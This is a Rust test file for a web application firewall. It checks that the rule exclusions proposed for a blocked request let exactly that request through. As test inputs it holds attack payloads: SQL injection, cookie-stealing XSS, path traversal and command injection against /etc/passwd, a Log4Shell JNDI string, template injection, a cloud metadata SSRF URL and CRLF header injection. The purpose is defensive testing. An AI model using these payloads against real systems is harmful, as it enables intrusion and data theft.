//! What is proposed to be excluded lets exactly the request pass for which it is.

use super::*;
use crate::{Proposal, ProposedExclusion, Tried};

/// A request of a browser: its line's method and target, the type of its body, its body.
type Asked<'a> = (&'a str, &'a str, &'a str, &'a str);

/// Shows a request, and tries exclusions if it is refused.
fn refused(firewall: &Arc<Firewall>, (method, target, kind, body): Asked<'_>) -> Option<Proposal> {
    let mut inspection = begin(firewall, target);
    let line = RequestLine { method, target, version: Version::HTTP_11 };
    let mut headers = HeaderMap::new();
    headers.insert(header::USER_AGENT, "Mozilla/5.0".parse().unwrap());
    headers.insert(header::ACCEPT, "*/*".parse().unwrap());
    headers.insert(header::HOST, "shop.test".parse().unwrap());
    if !body.is_empty() {
        headers.insert(header::CONTENT_TYPE, kind.parse().unwrap());
        headers.insert(header::CONTENT_LENGTH, body.len().into());
    }
    let found = inspection
        .request_head(line, &headers, None)
        .and_then(|()| inspection.request_body(body.as_bytes(), true));
    inspection.finish();
    inspection.try_exclusions(body.as_bytes());
    let account = inspection.account();
    assert_eq!(found.is_err(), account.judged == Judged::RefusedRequest);
    found.is_err().then_some(account.proposal)
}

/// As it is pasted.
fn pasted(proposal: &Proposal) -> String {
    let one = |exclusion: &ProposedExclusion| {
        let target = exclusion.target.as_ref().map(|target| format!(", target: \"{target}\""));
        format!("{{ rule: {}{} }}", exclusion.rule, target.unwrap_or_default())
    };
    proposal.exclusions.iter().map(one).collect::<Vec<_>>().join(", ")
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// Shows requests to rules, pastes what is proposed for each, and shows them again.
fn pass_with_what_is_proposed(keys: &str, requests: &[Asked<'_>]) -> Vec<String> {
    let firewall = firewalls(&[&format!("{{ {keys} }}")]).remove(0);
    let proposals = requests.iter().map(|asked| {
        let proposal = refused(&firewall, *asked).unwrap_or_else(|| panic!("{asked:?} passes"));
        assert_eq!(proposal.tried, Tried::Passes, "{asked:?}: {proposal:?}");
        pasted(&proposal)
    });
    let proposals: Vec<String> = proposals.collect();
    let routes: Vec<String> =
        proposals.iter().map(|exclude| format!("{{ {keys}, exclude: [{exclude}] }}")).collect();
    let routes: Vec<&str> = routes.iter().map(String::as_str).collect();
    for ((asked, firewall), proposal) in requests.iter().zip(firewalls(&routes)).zip(&proposals) {
        assert!(refused(&firewall, *asked).is_none(), "{asked:?}: {proposal}");
    }
    proposals
}

#[test]
fn a_refused_request_passes_with_what_is_proposed_for_it() {
    let token = "Zm9v-".repeat(9);
    let (masked, deep) = (
        format!(r#"{{"{token}": {{"id": "1' OR '1'='1"}}}}"#),
        format!(r#"{}"1' OR '1'='1"{}"#, r#"{"item":["#.repeat(25), "]}".repeat(25)),
    );
    let many: Vec<String> =
        (0..40).map(|number| format!("p{number}=%3Cscript%3Ealert({number})%3C/script%3E")).collect();
    let many = many.join("&");
    let all = "/0/a?a=1'+OR+'1'%3D'1&b=%3Cscript%3Ealert(1)%3C/script%3E&c=../../../../etc/passwd&d=;cat+/etc/passwd\
               &e=$%7Bjndi:ldap://x/a%7D&f=%7B%7B7*7%7D%7D&g=http://169.254.169.254/latest/meta-data";
    let requests: &[Asked<'_>] = &[
        ("GET", ATTACK, "", ""),
        ("GET", "/0/a?ada@example.test=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        ("GET", all, "", ""),
        ("POST", "/0/a", FORM, many.as_str()),
        ("POST", "/0/a", JSON, masked.as_str()),
        ("POST", "/0/a", JSON, deep.as_str()),
        ("POST", "/0/a", JSON, "{"),
    ];
    let proposals = pass_with_what_is_proposed("rules: starter", requests);
    assert!(proposals[0].split(" }, ").all(|one| one.contains("target: \"ARGS:id\"")), "{}", proposals[0]);
    assert!(proposals[4].contains("\"ARGS:/^json[.].+[.]id$/\""), "{}", proposals[4]);
    assert!(!proposals[4].contains(&token) && !proposals[1].contains("ada@"), "{proposals:?}");
    // Not a line for each of forty, but the collection.
    assert!(proposals[3].contains("target: \"ARGS\""), "{}", proposals[3]);
}

/// Chains, of which the last link says what has matched, and rules that count.
#[test]
fn rules_of_the_core_rule_set_pass_with_what_is_proposed() {
    let Some(folder) = core_rule_set() else { return };
    let keys = |rest: &str| format!("rules: crs, path: \"{}\", {rest}", folder.display());
    let attack = "/0/a?a=1'+OR+'1'%3D'1+UNION+SELECT+password+FROM+users--&b=%3Cscript%3Ealert(document.cookie)%3C/script%3E\
                  &c=../../../../etc/passwd&d=;cat+/etc/passwd&e=$%7Bjndi:ldap://x/a%7D";
    let requests: &[Asked<'_>] = &[
        ("GET", "/0/a", FORM, "a=b"),
        ("GET", attack, "", ""),
        ("GET", "/0/a?ada@example.test=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        ("POST", "/0/a", "text/csv", "a,b"),
        ("GET", "/0/a?a=1&a=2%0d%0aSet-Cookie:+b", "", ""),
    ];
    let proposals = pass_with_what_is_proposed(&keys("paranoia: 1"), requests);
    assert!(proposals[0].contains("rule: 920170"), "{}", proposals[0]);
    assert!(proposals[1].matches("rule:").count() > 5, "{}", proposals[1]);
    pass_with_what_is_proposed(&keys("paranoia: 4"), &requests[..2]);
}

#[test]
fn what_no_exclusion_lets_pass_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("own.conf");
    // What is not logged cannot be named.
    std::fs::write(&file, "SecRule ARGS:a \"@streq b\" \"id:100,phase:2,deny,nolog\"\n").unwrap();
    let firewall = starter(&format!("include: \"{}\"", file.display()));
    let nothing = refused(&firewall, ("GET", "/0/a?a=b", "", "")).unwrap();
    assert_eq!((nothing.tried, nothing.exclusions.len()), (Tried::Refused, 0));
    let others = refused(&firewall, ("GET", "/0/a?a=b&c=%3Cscript%3Ealert(1)%3C/script%3E", "", "")).unwrap();
    assert_eq!(others.tried, Tried::Refused);

    // An action that decides by itself is excluded as a whole.
    std::fs::write(&file, "SecAction \"id:100,phase:1,deny,msg:'Closed'\"\n").unwrap();
    let firewall = starter(&format!("include: \"{}\"", file.display()));
    let closed = refused(&firewall, ("GET", "/0/a", "", "")).unwrap();
    assert_eq!((closed.tried, pasted(&closed).as_str()), (Tried::Passes, "{ rule: 100 }"));
}

/// What rules find only once another does not refuse any more is proposed, too, and nothing that leads to no refusal.
#[test]
fn all_that_refuses_is_proposed_and_nothing_else() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("own-before.conf");
    let own = "SecRule ARGS:q \"@streq x\" \"id:100,phase:1,deny,log\"\n\
               SecRule ARGS:q \"@streq x\" \"id:101,phase:2,deny,log\"\n\
               SecRule ARGS:q \"@streq x\" \"id:102,phase:2,pass,log,tag:'paranoia-level/2',severity:CRITICAL,\
               setvar:tx.inbound_anomaly_score_pl2=+5\"\n";
    std::fs::write(&file, own).unwrap();
    let firewall = starter(&format!("include: \"{}\", detection_paranoia: 2", file.display()));
    let proposal = refused(&firewall, ("GET", "/0/a?q=x", "", "")).unwrap();
    assert_eq!(proposal.tried, Tried::Passes);
    assert_eq!(pasted(&proposal), "{ rule: 100, target: \"ARGS:q\" }, { rule: 101, target: \"ARGS:q\" }");
}
